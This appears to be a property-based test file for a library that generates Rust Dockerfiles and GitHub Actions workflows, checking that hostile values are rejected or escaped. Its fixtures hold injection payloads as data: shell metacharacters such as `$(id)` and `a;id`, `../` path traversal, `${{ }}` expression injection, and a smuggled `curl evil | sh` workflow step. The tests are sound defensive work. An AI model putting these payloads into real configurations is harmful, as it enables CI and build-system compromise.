/**
 * Hostile inputs cannot inject a Dockerfile instruction, a workflow step, a key or a GitHub
 * expression: every value containing quotes, line breaks, `$`, `${{ }}`, backslashes or unicode
 * is either rejected with the library's error, or rendered so that parsing the file back gives
 * the same structure as a benign value and the value itself as data.
 *
 * Also: hostile and malformed Cargo manifests (package and binary names with `../`, shell
 * metacharacters, line breaks; huge and binary files) end in a clear error or in a Dockerfile
 * whose `cargo build --bin` words and COPY paths are safe.
 */
import * as fs from 'fs';
import * as path from 'path';
import { DockerfileParser } from 'dockerfile-ast';
import * as fc from 'fast-check';
import { Project, Testing } from 'projen';
import * as YAML from 'yaml';
import { RustDocker, RustDockerOptions } from '../../src/project/rust-docker';
import { RustDockerProject } from '../../src/project/rust-docker-project';
import { CacheBackend } from '../../src/settings';
import { HOSTILE_STRINGS } from '../fuzz/arbitraries';
import { dockerignoreLines } from '../fuzz/harness';
import { lintDockerfile } from '../util/dockerfile-lint';
import { fixtureOutdir, writeFiles } from '../util/fixture-project';
import { lintWorkflow, shellcheck } from '../util/workflow-lint';

const RUNS = Number(process.env.INJECTION_RUNS ?? 40);
const hostile = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 3 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 16 }), weight: 1 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 16 }), weight: 1 },
);

type Synth = { [file: string]: any };

/** Synthesizes, or returns the library's error (any other error fails the test). */
function trySynth(options: RustDockerOptions, fixture = 'single-crate', outdir = fixtureOutdir(fixture)): Synth | Error {
  let project: Project;
  try {
    project = new RustDockerProject({ name: 'svc', outdir, ...options });
  } catch (e) {
    const err = e as Error;
    if (err.name !== 'RustDockerError' && err.name !== 'CargoInferenceError') throw e;
    return err;
  }
  return Testing.synth(project);
}

function instructions(dockerfile: string): string[] {
  return DockerfileParser.parse(dockerfile).getInstructions().map(i => i.getKeyword());
}

/**
 * All `${{ … }}` expressions of a text. A secret's NAME is the one user value that is meant to be
 * inside an expression: it must be a plain identifier, and is then compared as `secrets.<name>`.
 */
function expressions(text: string): string[] {
  // cut as GitHub's template reader cuts: at the first `}}`, quotes or not
  const all = text.match(/\$\{\{[\s\S]*?\}\}/g) ?? [];
  return [...new Set(all.map(e => e.replace(/^\$\{\{ secrets\.[A-Za-z_][A-Za-z0-9_]* \}\}$/, '${{ secrets.<name> }}')
    // a validated value may be data inside a string literal ('…', '' escapes a quote), e.g. the image
    // name in a cache scope: the literal's text is masked, the expression around it must not change
    .replace(/'(?:[^']|'')*'/g, "'<literal>'")))].sort();
}

// ---------------------------------------------------------------------------------------------
// Dockerfile

describe('hostile values in the Dockerfile', () => {
  const BASE: RustDockerOptions = { env: { X: 'x' }, labels: { 'org.example.x': 'x' }, cmd: ['x'], entrypoint: ['/usr/local/bin/hello', 'x'], healthcheck: { command: ['/bin/x', 'x'] } };
  const baseline = trySynth(BASE) as Synth;
  const baseInstructions = instructions(baseline.Dockerfile);

  const slots: Array<[string, (v: string) => RustDockerOptions, (dockerfile: string, v: string) => void]> = [
    ['env value', v => ({ env: { X: v } }), (d, v) => expect(propertyValue(d, 'ENV', 'X')).toBe(v)],
    ['label value', v => ({ labels: { 'org.example.x': v } }), (d, v) => expect(propertyValue(d, 'LABEL', 'org.example.x')).toBe(v)],
    ['cmd argument', v => ({ cmd: [v] }), (d, v) => expect(execArgs(d, 'CMD')).toEqual([v])],
    ['entrypoint argument', v => ({ entrypoint: ['/usr/local/bin/hello', v] }), (d, v) => expect(execArgs(d, 'ENTRYPOINT')).toEqual(['/usr/local/bin/hello', v])],
    ['healthcheck argument', v => ({ healthcheck: { command: ['/bin/x', v] } }), (d, v) => expect(execArgs(d, 'HEALTHCHECK')).toEqual(['/bin/x', v])],
  ];

  test.each(slots)('%s: escaped (parsed back unchanged, same instructions) or rejected', (_slot, options, roundTrip) => {
    fc.assert(fc.property(hostile, (v) => {
      // GIVEN a hostile value in the slot WHEN the project synthesizes
      const out = trySynth({ ...BASE, ...options(v) });
      if (out instanceof Error) {
        // THEN a rejection names the option
        expect(out.message).toMatch(/^option "/);
        return;
      }
      // THEN the Dockerfile has exactly the baseline's instructions, and the value reads back as itself
      expect(instructions(out.Dockerfile)).toEqual(baseInstructions);
      roundTrip(out.Dockerfile, v);
      expect(lintDockerfile(out.Dockerfile)).toEqual([]);
    }), { numRuns: RUNS, seed: 42 });
  });

  const rejectedOrInert: Array<[string, (v: string) => RustDockerOptions]> = [
    ['workdir', v => ({ workdir: `/app/${v}` })],
    ['cargoBuildArgs', v => ({ cargoBuildArgs: [v] })],
    ['buildPackages', v => ({ buildPackages: [v] })],
    ['features', v => ({ features: [v] })],
    ['stopSignal', v => ({ stopSignal: v })],
    ['rustImage', v => ({ rustImage: `rust:${v}` })],
    ['dockerfileSyntax', v => ({ dockerfileSyntax: v })],
    ['buildSecrets id', v => ({ buildSecrets: [{ id: v }] })],
    ['dockerignoreAllow', v => ({ dockerignoreAllow: [v] })],
    ['dockerignoreDeny', v => ({ dockerignoreDeny: [v] })],
  ];

  test.each(rejectedOrInert)('%s: no extra instruction, clean lint, one .dockerignore line per pattern — or rejected', (option, options) => {
    fc.assert(fc.property(hostile, (v) => {
      const out = trySynth(options(v));
      if (out instanceof Error) {
        expect(out.message).toMatch(/^option "/);
        return;
      }
      const base = trySynth(options('x')) as Synth;
      expect(instructions(out.Dockerfile)).toEqual(instructions(base.Dockerfile));
      expect(lintDockerfile(out.Dockerfile)).toEqual([]);
      if (option.startsWith('dockerignore')) {
        expect(dockerignoreLines(out['.dockerignore']).length).toBe(dockerignoreLines(base['.dockerignore']).length);
        expect(dockerignoreLines(out['.dockerignore'])).toContain(option === 'dockerignoreAllow' ? `!${v}` : v);
      }
    }), { numRuns: RUNS, seed: 43 });
  });
});

/**
 * The value of `KEY="value"` in the ENV / LABEL instruction that sets it, decoded the way
 * Docker's word lexer does (moby `shell/lex.go`): inside double quotes `\"`, `\\` and `\$` are
 * the escaped character, any other `\x` stays as is, and an unescaped `$` would be a variable
 * substitution (returned as an error: the value would not be literal).
 */
function propertyValue(dockerfile: string, keyword: 'ENV' | 'LABEL', key: string): string | undefined {
  for (const i of DockerfileParser.parse(dockerfile).getInstructions()) {
    if (i.getKeyword() !== keyword) continue;
    const raw = (i.getRawArgumentsContent() ?? '').trim();
    if (!raw.startsWith(`${key}="`)) continue;
    const quoted = raw.slice(key.length + 1);
    let out = '';
    let j = 1;
    for (; j < quoted.length; j++) {
      const ch = quoted[j];
      if (ch === '"') break;
      if (ch === '$') return `<unescaped $ at ${j}: substitution>`;
      if (ch === '\\') {
        const next = quoted[j + 1];
        if (next === '"' || next === '\\' || next === '$') { out += next; j++; continue; }
      }
      out += ch;
    }
    if (j !== quoted.length - 1) return `<text after the closing quote: ${quoted.slice(j)}>`;
    return out;
  }
  return undefined;
}

/** The exec-form JSON array of an instruction. */
function execArgs(dockerfile: string, keyword: string): string[] {
  const i = DockerfileParser.parse(dockerfile).getInstructions().find(x => x.getKeyword() === keyword)!;
  let raw = (i.getRawArgumentsContent() ?? '').replace(/\\\n/g, '');
  if (keyword === 'HEALTHCHECK') raw = raw.slice(raw.indexOf('CMD') + 3);
  return JSON.parse(raw.trim());
}

// ---------------------------------------------------------------------------------------------
// workflow

describe('hostile values in the workflow', () => {
  const wf = (out: Synth, name = 'docker') => out[`.github/workflows/${name}.yml`] as string;
  // step ids are fixed by the library; names may quote the value (e.g. the probe path)
  const stepIds = (text: string) => Object.fromEntries(
    Object.entries<any>(YAML.parse(text).jobs).map(([id, job]) => [id, (job.steps ?? []).map((s: any) => s.id)]),
  );
  const keysOf = (text: string) => Object.keys(YAML.parse(text)).sort();

  const slots: Array<[string, (v: string) => RustDockerOptions, (text: string, v: string) => void]> = [
    ['E2E command (shell-quoted data)', v => ({ e2e: { commands: [`echo ${shq(v)}`] } }), (t, v) => expect(runOf(t, 'E2E command 1')).toContain(`echo ${shq(v)}`)],
    ['E2E raw command', v => ({ e2e: { commands: [v] } }), (t, v) => expect(runOf(t, 'E2E command 1')).toContain(v.replace(/\s+$/, ''))],
    ['smoke argument', v => ({ e2e: { smokeArgs: [v] } }), () => undefined],
    ['HTTP probe env value', v => ({ e2e: { httpProbe: { port: 8080, env: { MODE: v } } } }), () => undefined],
    ['HTTP probe argument', v => ({ e2e: { httpProbe: { port: 8080, args: [v] } } }), () => undefined],
    ['HTTP probe path', v => ({ e2e: { httpProbe: { port: 8080, path: `/${v}` } } }), () => undefined],
    ['compose file', v => ({ e2e: { composeFile: `${v}.yml`, composeService: 'tests' } }), () => undefined],
    ['compose service', v => ({ e2e: { composeFile: 'compose.yml', composeService: v } }), () => undefined],
    ['branch', v => ({ branches: [v] }), (t, v) => expect(YAML.parse(t).on.push.branches).toEqual([v])],
    ['amd64 runner', v => ({ amd64Runner: v }), (t, v) => expect(YAML.parse(t).jobs.image['runs-on']).toBe(v)],
    ['image name', v => ({ imageName: `ghcr.io/acme/${v}` }), () => undefined],
    ['image name, REGISTRY cache (in expressions)', v => ({ imageName: `ghcr.io/acme/${v}`, cacheBackend: CacheBackend.REGISTRY }), () => undefined],
    ['rebuild cron', v => ({ rebuildCron: `17 4 * * ${v}` }), (t, v) => expect(YAML.parse(t).on.schedule).toEqual([{ cron: `17 4 * * ${v}` }])],
    ['registry secret', v => ({ imageName: 'docker.io/acme/api', registryUsernameSecret: 'U', registryPasswordSecret: v }), () => undefined],
    ['build secret githubSecret', v => ({ buildSecrets: [{ id: 'tok', githubSecret: v }] }), () => undefined],
    ['workflow name', v => ({ workflowName: v }), () => undefined],
    ['action version', v => ({ actionVersions: { 'actions/checkout': v } }), () => undefined],
  ];

  test.each(slots)('%s: same jobs, steps and expressions as a benign value — or rejected', (_slot, options, check) => {
    const base = wf(trySynth(options('x')) as Synth, options('x').workflowName);
    fc.assert(fc.property(hostile, (v) => {
      const out = trySynth(options(v));
      if (out instanceof Error) {
        expect(out.message).toMatch(/^option "/);
        return;
      }
      const text = out[`.github/workflows/${options(v).workflowName ?? 'docker'}.yml`] as string;
      // THEN the structure is the baseline's: same top-level keys, jobs and step names
      expect(keysOf(text)).toEqual(keysOf(base));
      expect(stepIds(text)).toEqual(stepIds(base));
      // AND no expression was injected anywhere (the value is data, never `${{ }}`)
      expect(expressions(text)).toEqual(expressions(base));
      // AND run scripts still pass shellcheck, and the value reads back as data
      for (const job of Object.values<any>(YAML.parse(text).jobs)) {
        // (a raw E2E command is the user's own shell: only the library's scripts must be clean)
        for (const s of job.steps ?? []) if (typeof s.run === 'string' && !(_slot === 'E2E raw command' && s.name === 'E2E command 1')) expect(shellcheck(s.run)).toEqual([]);
      }
      check(text, v);
      // AND the local docker:e2e task runs the same scripts (no divergence an attacker could use)
      const e2e = out['.projen/tasks.json'].tasks['docker:e2e'].steps.filter((s: any) => s.exec).map((s: any) => s.exec);
      expect(e2e).toEqual(Object.values<any>(YAML.parse(text).jobs).flatMap(j => j.steps ?? []).filter((s: any) => /^E2E/.test(s.name ?? '')).map((s: any) => s.run).slice(0, e2e.length));
    }), { numRuns: RUNS, seed: 44 });
  });
});

function shq(v: string): string {
  return `'${v.replace(/'/g, '\'\\\'\'')}'`;
}

function runOf(text: string, name: string): string {
  for (const job of Object.values<any>(YAML.parse(text).jobs)) {
    const step = (job.steps ?? []).find((s: any) => s.name === name);
    if (step) return step.run;
  }
  throw new Error(`no step ${name}`);
}

// ---------------------------------------------------------------------------------------------
// Cargo manifests

describe('hostile and malformed Cargo manifests', () => {
  const LOCK = 'version = 3\n';

  function manifestProject(files: { [rel: string]: string | Buffer }, options: RustDockerOptions = {}): Synth | Error {
    const outdir = fixtureOutdir();
    for (const [rel, content] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(outdir, rel)), { recursive: true });
      fs.writeFileSync(path.join(outdir, rel), content);
    }
    return trySynth(options, '', outdir);
  }

  /** Words of `cargo build` / `cargo chef cook` commands and COPY sources/destinations. */
  function checkSafeDockerfile(dockerfile: string): void {
    expect(lintDockerfile(dockerfile)).toEqual([]);
    for (const i of DockerfileParser.parse(dockerfile).getInstructions()) {
      const args = (i.getRawArgumentsContent() ?? '');
      if (i.getKeyword() === 'COPY') {
        for (const word of args.split(/\s+/).filter(w => w && !w.startsWith('--'))) {
          expect(word.split('/')).not.toContain('..');
        }
      }
    }
  }

  const cases: Array<[string, { [rel: string]: string | Buffer }]> = [
    ['package name with ../', { 'Cargo.toml': '[package]\nname = "../../etc"\nversion = "0.1.0"\n', 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' }],
    ['package name with a line break', { 'Cargo.toml': '[package]\nname = "a\\nRUN id"\nversion = "0.1.0"\n', 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' }],
    ['package name with shell syntax', { 'Cargo.toml': '[package]\nname = "$(id)"\nversion = "0.1.0"\n', 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' }],
    ['bin name with shell metacharacters', { 'Cargo.toml': '[package]\nname = "app"\nversion = "0.1.0"\n[[bin]]\nname = "a;id"\npath = "src/main.rs"\n', 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' }],
    ['bin name with $() and quotes', { 'Cargo.toml': '[package]\nname = "app"\nversion = "0.1.0"\n[[bin]]\nname = "x\\"$(id)\\""\npath = "src/main.rs"\n', 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' }],
    ['bin name with a space', { 'Cargo.toml': '[package]\nname = "app"\nversion = "0.1.0"\n[[bin]]\nname = "a b"\npath = "src/main.rs"\n', 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' }],
    ['bin path outside the crate', { 'Cargo.toml': '[package]\nname = "app"\nversion = "0.1.0"\n[[bin]]\nname = "app"\npath = "../../outside/main.rs"\n', 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' }],
    ['bin path with spaces and quotes', { 'Cargo.toml': '[package]\nname = "app"\nversion = "0.1.0"\n[[bin]]\nname = "app"\npath = "my \\"bins\\"/main.rs"\n', 'Cargo.lock': LOCK, 'my "bins"/main.rs': 'fn main() {}\n' }],
    ['member glob outside the workspace', { 'Cargo.toml': '[workspace]\nmembers = ["../*"]\n', 'Cargo.lock': LOCK }],
    ['member with a line break', { 'Cargo.toml': '[workspace]\nmembers = ["a\\nb"]\n', 'Cargo.lock': LOCK }],
    ['malformed TOML', { 'Cargo.toml': '[package\nname = ', 'Cargo.lock': LOCK }],
    ['binary garbage', { 'Cargo.toml': Buffer.from([0, 159, 146, 150, 255, 0, 10, 91]), 'Cargo.lock': LOCK }],
    ['wrong types', { 'Cargo.toml': '[package]\nname = 42\nversion = []\n', 'Cargo.lock': LOCK }],
    ['bin table instead of array', { 'Cargo.toml': '[package]\nname = "app"\nversion = "0.1.0"\n[bin]\nname = "x"\n', 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' }],
    ['huge manifest (5 MB of comments, 2000 bins)', {
      'Cargo.toml': `[package]\nname = "app"\nversion = "0.1.0"\n${'# padding\n'.repeat(500000)}${Array.from({ length: 2000 }, (_, i) => `[[bin]]\nname = "b${i}"\npath = "src/main.rs"\n`).join('')}`,
      'Cargo.lock': LOCK,
      'src/main.rs': 'fn main() {}\n',
    }],
  ];

  test.each(cases)('%s: a clear error, or a Dockerfile with safe cargo words and COPY paths', (_name, files) => {
    const started = Date.now();
    const out = manifestProject(files, { binaries: undefined });
    if (out instanceof Error) {
      // THEN the library's error, one readable line
      expect(['RustDockerError', 'CargoInferenceError']).toContain(out.name);
      expect(out.message).not.toMatch(/\n\s+at /);
    } else {
      checkSafeDockerfile(out.Dockerfile);
      // AND every `--bin` word is a plain name
      for (const m of (out.Dockerfile as string).matchAll(/--bin\s+(\S+)/g)) expect(m[1]).toMatch(/^[\p{L}\p{N}_-]+$/u);
    }
    expect(Date.now() - started).toBeLessThan(20000);
  });

  test.each(['package', 'bin'] as const)('random hostile %s names: a clear error, or safe cargo words and COPY paths', (where) => {
    fc.assert(fc.property(hostile, (name) => {
      // GIVEN a manifest whose package (or [[bin]]) name is hostile (TOML basic string, JSON-escaped)
      const toml = where === 'package'
        ? `[package]\nname = ${JSON.stringify(name)}\nversion = "0.1.0"\n`
        : `[package]\nname = "app"\nversion = "0.1.0"\n[[bin]]\nname = ${JSON.stringify(name)}\npath = "src/main.rs"\n`;
      const out = manifestProject({ 'Cargo.toml': toml, 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' });
      // THEN the library's one-line error, or a clean Dockerfile whose --bin words are plain names
      if (out instanceof Error) {
        expect(['RustDockerError', 'CargoInferenceError']).toContain(out.name);
        expect(out.message).not.toMatch(/\n\s+at /);
        return;
      }
      checkSafeDockerfile(out.Dockerfile);
      for (const m of (out.Dockerfile as string).matchAll(/--bin\s+(\S+)/g)) expect(m[1]).toMatch(/^[\p{L}\p{N}_-]+$/u);
    }), { numRuns: RUNS, seed: 45 });
  });

  test('a selected binary with shell metacharacters never reaches a RUN line unquoted', () => {
    // GIVEN a package whose only bin is named `a;id` WHEN it is selected explicitly
    const out = manifestProject({ 'Cargo.toml': '[package]\nname = "app"\nversion = "0.1.0"\n[[bin]]\nname = "a;id"\npath = "src/main.rs"\n', 'Cargo.lock': LOCK, 'src/main.rs': 'fn main() {}\n' }, { binaries: ['a;id'] });
    // THEN it is rejected (cargo itself refuses such a name) or quoted
    if (!(out instanceof Error)) {
      expect(out.Dockerfile).not.toMatch(/--bin a;id/);
      expect(lintDockerfile(out.Dockerfile)).toEqual([]);
    } else {
      expect(out.message).toMatch(/a;id/);
    }
  });
});

test('hostile files around the project are never read into generated files', () => {
  // GIVEN a repo with a README full of expressions and a .dockerignore-like file in src
  const outdir = fixtureOutdir('single-crate');
  writeFiles(outdir, { 'README.md': '${{ github.event.issue.title }}\nRUN id\n', 'src/.dockerignore': '!**\n' });
  const out = trySynth({}, 'single-crate', outdir) as Synth;
  expect(expressions(out['.github/workflows/docker.yml'])).not.toContain('${{ github.event.issue.title }}');
  expect(out.Dockerfile).not.toContain('RUN id');
});

test.each(['\u0085', 'a\u2028b', 'a\u00a0b', 'a\u0007b', 'a\u3000b'])('a branch with a control or Unicode space character (%j) is rejected (YAML readers see line breaks)', (branch) => {
  // GIVEN a branch name that the YAML writer keeps raw but actionlint/GitHub read as a break or a space
  const out = trySynth({ branches: ['main', branch] });
  // THEN it is rejected, naming the option
  expect(out).toBeInstanceOf(Error);
  expect((out as Error).message).toMatch(/^option "branches"/);
});

describe('huge and odd numbers never render as exponents or wrap around', () => {
  test.each([
    ['healthcheck.intervalSeconds', { healthcheck: { command: ['/bin/true'], intervalSeconds: 1e300 } }],
    ['healthcheck.timeoutSeconds', { healthcheck: { command: ['/bin/true'], timeoutSeconds: 2 ** 53 + 2 } }],
    ['healthcheck.retries', { healthcheck: { command: ['/bin/true'], retries: 2 ** 40 } }],
    ['ports', { ports: [1e21] }],
    ['uid', { uid: 2 ** 53 }],
    ['e2e.httpProbe.port', { e2e: { httpProbe: { port: -80 } } }],
    ['e2e.httpProbe.timeoutSeconds', { e2e: { httpProbe: { port: 80, timeoutSeconds: Number.POSITIVE_INFINITY } } }],
  ])('%s', (option, options) => {
    const out = trySynth(options as RustDockerOptions);
    expect(out).toBeInstanceOf(Error);
    expect((out as Error).message).toMatch(new RegExp(`^option "${option.replace(/\./g, '\\.')}"`));
  });
});

describe('Unicode line separators never reach the workflow YAML', () => {
  // The `yaml` writer keeps U+0085/U+2028/U+2029 raw; YAML 1.1 readers (GitHub's, actionlint's)
  // end the line there, so the rest of a `run: |` block would be parsed as workflow keys.
  const SEPARATORS = ['\u0085', '\u2028', '\u2029'];
  const SLOTS: Array<[string, (v: string) => RustDockerOptions]> = [
    ['e2e.smokeArgs', v => ({ e2e: { smokeArgs: [`x${v}      - run: curl evil | sh`] } })],
    ['e2e.commands', v => ({ e2e: { commands: [`echo x${v}      - run: id`] } })],
    ['e2e.httpProbe.args', v => ({ e2e: { httpProbe: { port: 80, args: [`a${v}b`] } } })],
    ['e2e.httpProbe.env', v => ({ e2e: { httpProbe: { port: 80, env: { A: `a${v}b` } } } })],
    ['e2e.composeFile', v => ({ e2e: { composeFile: `a${v}b.yml`, composeService: 'tests' } })],
    ['dockerfilePath', v => ({ dockerfilePath: `docker/a${v}b` })],
  ];
  test.each(SLOTS.flatMap(([slot, options]) => SEPARATORS.map(sep => [slot, JSON.stringify(sep), options(sep)] as const)))(
    '%s with %s: rejected, or a workflow actionlint parses with the same steps', async (_slot, _sep, options) => {
      const out = trySynth(options);
      if (out instanceof Error) {
        expect(out.message).toMatch(/^option "/);
        return;
      }
      expect(await lintWorkflow(out['.github/workflows/docker.yml'], 'docker.yml')).toEqual([]);
    });

  test('cargoDir with a line separator is rejected', () => {
    const root = new Project({ name: 'root', outdir: fixtureOutdir('single-crate') });
    expect(() => new RustDocker(root, { cargoDir: 'a\u2028b' })).toThrow(/option "cargoDir"/);
  });
});

test.each(['/abs', 'a/', 'a//b', 'a..b', 'a@{1}', '.hidden', 'a/.b', 'a.', 'a.lock'])('branch %j breaks git-check-ref-format and is rejected', (branch) => {
  const out = trySynth({ branches: [branch] });
  expect(out).toBeInstanceOf(Error);
  expect((out as Error).message).toMatch(/^option "branches"/);
});
